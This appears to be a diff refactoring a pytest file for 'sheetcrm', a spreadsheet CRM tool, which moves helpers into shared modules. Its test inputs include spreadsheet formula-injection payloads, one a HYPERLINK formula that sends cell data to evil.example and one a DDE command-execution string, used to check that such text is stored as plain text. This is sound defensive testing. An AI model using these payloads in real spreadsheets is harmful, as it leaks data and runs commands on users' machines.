@@ -31,27 +31,22 @@ from urllib.parse import quote
 import openpyxl
 import pytest
 import requests
-from click.testing import CliRunner, Result
 
 from sheetcrm import tracker
 from sheetcrm.backends.excel import ExcelBackend
 from sheetcrm.backends.google import GoogleBackend
 from sheetcrm.backends.google_auth import login, save_token
 from sheetcrm.backends.memory import MemoryBackend
-from sheetcrm.backends.retry import RetryPolicy
-from sheetcrm.cli import cli
 from sheetcrm.template import load_template
 from tests.fake_sheets import FakeSheets
-from tests.test_reliability_files import xlsx_cells
+from tests.helpers.cli import run
+from tests.helpers.google import google_tracker, oauth_credentials, private_key_pem
+from tests.helpers.xlsx import xlsx_cells
 
 NOW = "2026-11-02T10:00"
 EMAIL = "sheetcrm-bot@kato-boutique.iam.gserviceaccount.com"
 INJECTIONS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click me")', "=1+1",
               "+256772123456", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0"]
-
-
-def run(*args: str) -> Result:
-    return CliRunner().invoke(cli, list(args), catch_exceptions=False)
 
 
 # --------------------------------------------------------------------------- formula injection
@@ -97,12 +92,7 @@ def test_add_and_import_store_formula_like_text_as_text_in_excel(tmp_path: Path)
 
 
 def _google() -> tuple[FakeSheets, str, GoogleBackend]:
-    fake = FakeSheets(service_account_email=EMAIL)
-    key = fake.create_spreadsheet("Kato Boutique")
-    backend = GoogleBackend(fake.url(key), client=fake.client(),
-                            retry=RetryPolicy(sleep=lambda _s: None))
-    tracker.init_tracker(backend)
-    return fake, key, backend
+    return google_tracker(FakeSheets(service_account_email=EMAIL), "Kato Boutique")
 
 
 def _google_cells(fake: FakeSheets, key: str) -> Iterator[tuple[str, dict[str, Any]]]:
@@ -139,7 +129,7 @@ def test_add_import_and_refresh_store_formula_like_text_as_text_in_google(
     csv_path.write_text("Received,Name\n" + "".join(
         f'02/11/2026 09:{10 + i},"{t.replace(chr(34), chr(34) * 2)}"\n'
         for i, t in enumerate(INJECTIONS)), encoding="utf-8")
-    tracker.import_csv(backend, csv_path, now=now)
+    tracker.import_file(backend, csv_path, now=now)
     # The owner typed these as text on the phone; refresh copies them to Today and Summary.
     fake.set_values(key, "Enquiries", "A30", [["02/11/2026 09:30", INJECTIONS[0], "",
                                                INJECTIONS[1]]], input="RAW")
@@ -182,12 +172,7 @@ def test_sync_stores_formula_like_text_as_text_in_google(tmp_path: Path) -> None
 
 @pytest.fixture(scope="module")
 def pem() -> str:
-    from cryptography.hazmat.primitives import serialization
-    from cryptography.hazmat.primitives.asymmetric import rsa
-
-    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
-    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
-                             serialization.NoEncryption()).decode()
+    return private_key_pem()
 
 
 KEY_ID = "5ec2e7f00dd1ce0ffee0ddba11c0ffee5ec2e7f0"
@@ -326,12 +311,9 @@ def test_a_key_file_others_can_read_gets_a_warning(tmp_path: Path, pem: str, mod
 
 
 def _sign_in() -> Any:
-    from google.oauth2.credentials import Credentials
-
-    return Credentials(  # type: ignore[no-untyped-call]
-        token=ACCESS_TOKEN, refresh_token="1//SECRET-refresh-token",
-        client_id="id.apps.googleusercontent.com", client_secret="SECRET-client",
-        token_uri="https://oauth2.googleapis.com/token")
+    return oauth_credentials(token=ACCESS_TOKEN, refresh_token="1//SECRET-refresh-token",
+                             client_id="id.apps.googleusercontent.com",
+                             client_secret="SECRET-client")
 
 
 @pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
